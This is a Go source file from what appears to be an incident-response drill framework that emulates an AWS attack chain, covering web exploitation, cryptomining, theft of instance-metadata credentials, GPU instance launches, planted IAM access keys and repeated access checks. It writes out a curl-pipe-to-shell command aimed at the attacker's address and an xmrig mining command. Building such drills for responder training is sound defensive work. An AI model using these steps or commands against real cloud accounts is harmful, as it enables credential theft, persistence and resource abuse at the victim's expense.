package attacker

import (
	"context"
	"fmt"
	"strconv"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"

	"github.com/firedrill-ir/firedrill/cloudsim/world"
)

// Technique ids of the built-in catalog.
const (
	ExploitWebApp    = "aws.ec2.exploit-web-app"
	CryptoMiner      = "aws.ec2.start-cryptominer"
	StealIMDSCreds   = "aws.ec2.steal-imds-credentials"
	LaunchGPUs       = "aws.ec2.launch-gpu-instances"
	CreateAccessKey  = "aws.iam.create-access-key"
	KeepAccess       = "aws.keep-access"
	correlationTag   = "firedrill:correlation-id"
	attackerFlowName = "attacker"
)

// Builtin returns the built-in technique registry.
func Builtin() *Registry {
	ts := []*Technique{exploitWebApp(), cryptoMiner(), stealIMDSCredentials(), launchGPUInstances(),
		createAccessKey(), keepAccess()}
	ts = append(ts, azureTechniques()...)
	ts = append(ts, gcpTechniques()...)
	r, err := NewRegistry(ts...)
	if err != nil {
		panic(err) // a programming error in this file, caught by any test
	}
	return r
}

// exploitWebApp gains code execution on one instance of a scaling group
// through its public web service, leaving an interactive web-shell session
// (an inbound connection the responder's isolation must cut).
func exploitWebApp() *Technique {
	return &Technique{
		ID: ExploitWebApp, ATTACK: "T1190", Name: "Exploit Public-Facing Application",
		Params: []ParamSpec{
			{Name: "group", Kind: KindString, Default: "web-asg", Doc: "scaling group whose instance is attacked"},
			{Name: "target", Kind: KindString, Default: "oldest",
				Doc: "oldest (first scale-in candidate), newest, or an instance id"},
			{Name: "port", Kind: KindInt, Default: "443", Doc: "the exposed service port"},
			{Name: "vulnerability", Kind: KindString, Default: "CVE-2023-46604", Doc: "what is exploited, for the record"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			w := env.World
			w.LockAs(hostCaller)
			id, err := pickTarget(w, p.String("group"), p.String("target"))
			if err == nil {
				_, err = w.OpenFlowLocked(id, world.FlowSpec{Direction: "ingress", Protocol: "tcp",
					LocalPort: p.Int("port"), RemoteIP: env.SourceIP, Actor: attackerFlowName})
			}
			if err == nil {
				inst := w.Instances[id]
				inst.Processes = append(inst.Processes, world.Process{PID: 31337, User: "app",
					Command: "/bin/sh -c curl -s http://" + env.SourceIP + "/x.sh | sh", CPU: 0.2})
				env.State.Foothold = id
			}
			w.Unlock()
			return env.Record(Action{Technique: ExploitWebApp, Operation: "http:exploit", Resource: id, Credential: "none",
				Detail: map[string]string{"port": p.String("port"), "vulnerability": p.String("vulnerability")}}, err)
		},
	}
}

// pickTarget chooses the attacked instance. "oldest" is the first instance
// scale-in would terminate, which is what makes the drill's evidence race
// real: the compromised box is the one autoscaling kills first.
func pickTarget(w *world.World, group, target string) (string, error) {
	switch target {
	case "oldest", "newest":
		g := w.ASGs[group]
		if g == nil {
			return "", fmt.Errorf("scaling group %q does not exist", group)
		}
		cands := w.ScaleInCandidatesLocked(g)
		if len(cands) == 0 {
			return "", fmt.Errorf("scaling group %q has no in-service instance", group)
		}
		if target == "oldest" {
			return cands[0].InstanceID, nil
		}
		return cands[len(cands)-1].InstanceID, nil
	}
	if _, ok := w.Instances[target]; !ok {
		return "", fmt.Errorf("instance %q does not exist", target)
	}
	return target, nil
}

// cryptoMiner starts xmrig on the foothold: CPU pinned near 100% and a
// tracked outbound stratum connection to a pool domain, the two signals the
// CPU alarm and GuardDuty's DNS finding key on.
func cryptoMiner() *Technique {
	return &Technique{
		ID: CryptoMiner, ATTACK: "T1496", Name: "Resource Hijacking (cryptominer)",
		Params: []ParamSpec{
			{Name: "pool_domain", Kind: KindString, Default: "pool.minexmr.com"},
			{Name: "pool_ip", Kind: KindString, Default: "192.0.2.77"},
			{Name: "pool_port", Kind: KindInt, Default: "4444"},
			{Name: "cpu", Kind: KindInt, Default: "99", Doc: "CPU utilisation the miner drives, percent"},
			{Name: "process", Kind: KindString, Default: "xmrig"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			env.State.Pool = PoolTarget{Domain: p.String("pool_domain"), IP: p.String("pool_ip"), Port: p.Int("pool_port")}
			w := env.World
			w.LockAs(hostCaller)
			id := env.State.Foothold
			inst, ok := w.Instances[id]
			var err error
			switch {
			case id == "" || !ok:
				err = fmt.Errorf("no foothold: the exploit step did not succeed")
			case inst.State != world.StateRunning:
				err = fmt.Errorf("foothold %s is %s", id, inst.State)
			default:
				now := w.Now()
				inst.Processes = append(inst.Processes, world.Process{PID: 31415, User: "app",
					Command: fmt.Sprintf("/tmp/.cache/%s -o %s:%d --donate-level 0 -k", p.String("process"),
						env.State.Pool.Domain, env.State.Pool.Port), CPU: float64(p.Int("cpu"))})
				w.SetCPULocked(inst, now, float64(p.Int("cpu")))
				var f *world.Flow
				f, err = w.OpenFlowLocked(id, poolFlowSpec(env))
				if err == nil {
					env.State.PoolFlow = f.ID
				}
			}
			w.Unlock()
			return env.Record(Action{Technique: CryptoMiner, Operation: "pool:connect", Resource: id, Credential: "host",
				Detail: map[string]string{"pool": fmt.Sprintf("%s:%d", env.State.Pool.Domain, env.State.Pool.Port),
					"process": p.String("process")}}, err)
		},
	}
}

func poolFlowSpec(env *Env) world.FlowSpec {
	return world.FlowSpec{Direction: "egress", Protocol: "tcp", RemoteIP: env.State.Pool.IP,
		RemotePort: env.State.Pool.Port, Domain: env.State.Pool.Domain, Actor: attackerFlowName}
}

// stealIMDSCredentials reads the instance role's credentials from the
// metadata service on the foothold and immediately uses them from the
// attacker's own address, the pattern GuardDuty's
// InstanceCredentialExfiltration.OutsideAWS finding describes.
func stealIMDSCredentials() *Technique {
	return &Technique{
		ID: StealIMDSCreds, ATTACK: "T1552.005", Name: "Unsecured Credentials: Cloud Instance Metadata API",
		Run: func(ctx context.Context, env *Env, p Params) error {
			w := env.World
			w.LockAs(hostCaller)
			id := env.State.Foothold
			var s *world.Session
			var err error
			if id == "" {
				err = fmt.Errorf("no foothold to read instance metadata from")
			} else {
				s, err = w.InstanceCredentialsLocked(id)
			}
			var arn string
			if err == nil {
				if r := w.Roles[s.Role]; r != nil {
					arn = fmt.Sprintf("arn:aws:sts::%s:assumed-role/%s/%s", r.Account, r.Name, s.SessionName)
				}
				env.State.Stolen = &Credentials{AccessKeyID: s.AccessKeyID, SecretAccessKey: s.Secret,
					SessionToken: s.Token, Label: "stolen-session", Principal: arn, Expires: s.Expires}
			}
			w.Unlock()
			d := map[string]string{"path": "/latest/meta-data/iam/security-credentials/"}
			if s != nil {
				d["access_key_id"], d["role"] = s.AccessKeyID, s.Role
			}
			if err := env.Record(Action{Technique: StealIMDSCreds, Operation: "imds:GetRoleCredentials", Resource: id,
				Credential: "host", Detail: d}, err); err != nil {
				return err
			}
			_, err = callerIdentity(ctx, env, StealIMDSCreds, env.State.Stolen)
			return err
		},
	}
}

// callerIdentity is the attacker's "whoami" with a set of credentials.
func callerIdentity(ctx context.Context, env *Env, technique string, c *Credentials) (string, error) {
	out, err := sts.NewFromConfig(env.AWSConfig(c, "")).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
	arn := ""
	if err == nil {
		arn = aws.ToString(out.Arn)
	}
	// AWS answers GetCallerIdentity even under an explicit deny, so its
	// success proves the credentials exist, not that they grant anything;
	// requires_permission lets scoring tell it from real access.
	return arn, env.Record(Action{Technique: technique, Operation: "sts:GetCallerIdentity", Resource: arn,
		Credential: c.Label, Detail: map[string]string{"access_key_id": c.AccessKeyID, "requires_permission": "false"}}, err)
}

// launchGPUInstances spends the victim's money: GPU instances in a region
// the victim does not use, one RunInstances call each, tagged and named with
// the run's correlation id.
func launchGPUInstances() *Technique {
	return &Technique{
		ID: LaunchGPUs, ATTACK: "T1578.002", Name: "Modify Cloud Compute Infrastructure: Create Cloud Instance",
		Params: []ParamSpec{
			{Name: "region", Kind: KindString, Default: "us-west-2"},
			{Name: "instance_type", Kind: KindString, Default: "p3.2xlarge"},
			{Name: "count", Kind: KindInt, Default: "3"},
			{Name: "image", Kind: KindString, Default: "ami-0c2b8ca1dad447f8a"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			c := env.State.Stolen
			if c == nil {
				return env.Record(Action{Technique: LaunchGPUs, Operation: "ec2:RunInstances"},
					fmt.Errorf("no stolen credentials to launch with"))
			}
			region := p.String("region")
			client := ec2.NewFromConfig(env.AWSConfig(c, region))
			var firstErr error
			for i := 1; i <= p.Int("count"); i++ {
				name := fmt.Sprintf("fd-%s-worker-%d", env.ShortID(), i)
				out, err := client.RunInstances(ctx, &ec2.RunInstancesInput{
					ImageId: aws.String(p.String("image")), InstanceType: ec2types.InstanceType(p.String("instance_type")),
					MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
					TagSpecifications: []ec2types.TagSpecification{{ResourceType: ec2types.ResourceTypeInstance,
						Tags: []ec2types.Tag{{Key: aws.String("Name"), Value: aws.String(name)},
							{Key: aws.String(correlationTag), Value: aws.String(env.CorrelationID)}}}},
				})
				id := ""
				if err == nil && len(out.Instances) > 0 {
					id = aws.ToString(out.Instances[0].InstanceId)
					if env.State.Launched == nil {
						env.State.Launched = map[string][]string{}
					}
					env.State.Launched[region] = append(env.State.Launched[region], id)
				}
				if rerr := env.Record(Action{Technique: LaunchGPUs, Operation: "ec2:RunInstances", Resource: id,
					Credential: c.Label, Detail: map[string]string{"region": region,
						"instance_type": p.String("instance_type"), "name": name}}, err); rerr != nil && firstErr == nil {
					firstErr = rerr
				}
			}
			return firstErr
		},
	}
}

// createAccessKey plants a long-term key on an existing IAM user with the
// stolen role session, so access survives the session being revoked.
func createAccessKey() *Technique {
	return &Technique{
		ID: CreateAccessKey, ATTACK: "T1098.001", Name: "Account Manipulation: Additional Cloud Credentials",
		Params: []ParamSpec{{Name: "user", Kind: KindString, Default: "ci-deploy"}},
		Run: func(ctx context.Context, env *Env, p Params) error {
			c := env.State.Stolen
			if c == nil {
				return env.Record(Action{Technique: CreateAccessKey, Operation: "iam:CreateAccessKey"},
					fmt.Errorf("no stolen credentials"))
			}
			user := p.String("user")
			out, err := iam.NewFromConfig(env.AWSConfig(c, "")).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(user)})
			id := ""
			if err == nil {
				id = aws.ToString(out.AccessKey.AccessKeyId)
				env.State.Persistence = &Credentials{AccessKeyID: id, SecretAccessKey: aws.ToString(out.AccessKey.SecretAccessKey),
					Label: "persistence-key", Principal: user}
				env.State.PersistenceUser = user
			}
			if err := env.Record(Action{Technique: CreateAccessKey, Operation: "iam:CreateAccessKey", Resource: id,
				Credential: c.Label, Detail: map[string]string{"user": user}}, err); err != nil {
				return err
			}
			_, err = callerIdentity(ctx, env, CreateAccessKey, env.State.Persistence)
			return err
		},
	}
}

// keepAccess is the attacker coming back every few minutes until the drill
// ends: is the pool connection still up (or can a new one be opened), does
// the stolen session still work, does the planted key still work. Every
// answer is an attack.action, so after containment the timeline shows
// exactly what the responder did and did not cut.
func keepAccess() *Technique {
	return &Technique{
		ID: KeepAccess, ATTACK: "T1078.004", Name: "Valid Accounts: Cloud Accounts",
		Params: []ParamSpec{
			{Name: "every", Kind: KindDuration, Default: "5m"},
			{Name: "gpu_region", Kind: KindString, Default: "us-west-2"},
			{Name: "instance_type", Kind: KindString, Default: "p3.2xlarge"},
			{Name: "image", Kind: KindString, Default: "ami-0c2b8ca1dad447f8a"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			every := p.Duration("every")
			if every <= 0 {
				return fmt.Errorf("keep-access: every must be positive")
			}
			for {
				env.Probe(ctx, p)
				if env.End.IsZero() || !env.Clock.Now().Add(every).Before(env.End) {
					return nil
				}
				if err := env.Clock.Sleep(ctx, every); err != nil {
					return fmt.Errorf("keep-access: waiting for the next round: %w", err)
				}
			}
		},
	}
}

// Probe performs one round of the attacker's access checks (see keepAccess).
// Failures are recorded, not returned: a denied call is the answer sought.
func (e *Env) Probe(ctx context.Context, p Params) {
	e.probePool()
	if c := e.State.Stolen; c != nil {
		_, _ = callerIdentity(ctx, e, KeepAccess, c)
		cl := ec2.NewFromConfig(e.AWSConfig(c, ""))
		_, err := cl.DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
		_ = e.Record(Action{Technique: KeepAccess, Operation: "ec2:DescribeInstances", Credential: c.Label,
			Detail: map[string]string{"region": e.Region}}, err)
		region := p.String("gpu_region")
		_, err = ec2.NewFromConfig(e.AWSConfig(c, region)).RunInstances(ctx, &ec2.RunInstancesInput{
			DryRun: aws.Bool(true), ImageId: aws.String(p.String("image")),
			InstanceType: ec2types.InstanceType(p.String("instance_type")), MinCount: aws.Int32(1), MaxCount: aws.Int32(1)})
		_ = e.Record(Action{Technique: KeepAccess, Operation: "ec2:RunInstances", Credential: c.Label,
			Detail: map[string]string{"region": region, "dry_run": "true"}}, err)
	}
	if c := e.State.Persistence; c != nil {
		_, _ = callerIdentity(ctx, e, KeepAccess, c)
		_, err := s3.NewFromConfig(e.AWSConfig(c, ""), func(o *s3.Options) { o.UsePathStyle = true }).
			ListBuckets(ctx, &s3.ListBucketsInput{})
		_ = e.Record(Action{Technique: KeepAccess, Operation: "s3:ListBuckets", Credential: c.Label}, err)
	}
}

// probePool checks the miner's pool connection from the host side: still up,
// or can a new one be opened through whatever security groups now apply.
func (e *Env) probePool() {
	if e.State.Pool.IP == "" || e.State.Foothold == "" {
		return
	}
	w := e.World
	w.LockAs(hostCaller)
	id := e.State.Foothold
	up := false
	for _, f := range w.ActiveFlowsLocked(id) {
		if f.ID == e.State.PoolFlow {
			up = true
		}
	}
	op := "pool:keepalive"
	var err error
	if !up {
		op = "pool:reconnect"
		var f *world.Flow
		f, err = w.OpenFlowLocked(id, poolFlowSpec(e))
		if err == nil {
			e.State.PoolFlow = f.ID
		}
	}
	flow := e.State.PoolFlow
	w.Unlock()
	_ = e.Record(Action{Technique: KeepAccess, Operation: op, Resource: id, Credential: "host",
		Detail: map[string]string{"flow": flow, "pool": e.State.Pool.Domain + ":" + strconv.Itoa(e.State.Pool.Port)}}, err)
}

// CheckCredentials tries every credential the attacker holds with a call
// that needs a permission it had (sts:GetCallerIdentity would not do: AWS
// answers it even under an explicit deny, so a revoked session still
// "works" for it) and reports which still work. The runner's final
// containment check uses it; each call is also an attack.action.
func (e *Env) CheckCredentials(ctx context.Context) (stolenValid, persistenceValid int) {
	if c := e.State.Stolen; c != nil {
		_, err := ec2.NewFromConfig(e.AWSConfig(c, "")).DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
		if e.Record(Action{Technique: KeepAccess, Operation: "ec2:DescribeInstances", Credential: c.Label,
			Detail: map[string]string{"region": e.Region, "check": "final"}}, err) == nil {
			stolenValid++
		}
	}
	if c := e.State.Persistence; c != nil {
		_, err := s3.NewFromConfig(e.AWSConfig(c, ""), func(o *s3.Options) { o.UsePathStyle = true }).
			ListBuckets(ctx, &s3.ListBucketsInput{})
		if e.Record(Action{Technique: KeepAccess, Operation: "s3:ListBuckets", Credential: c.Label,
			Detail: map[string]string{"check": "final"}}, err) == nil {
			persistenceValid++
		}
	}
	return stolenValid, persistenceValid
}

// ActiveFlows counts the attacker's connections still up on any instance.
func (e *Env) ActiveFlows() (n int, ids []string) {
	w := e.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	for _, f := range w.Flows {
		if f.Actor == attackerFlowName && f.Active() {
			n++
			ids = append(ids, f.ID)
		}
	}
	return n, ids
}
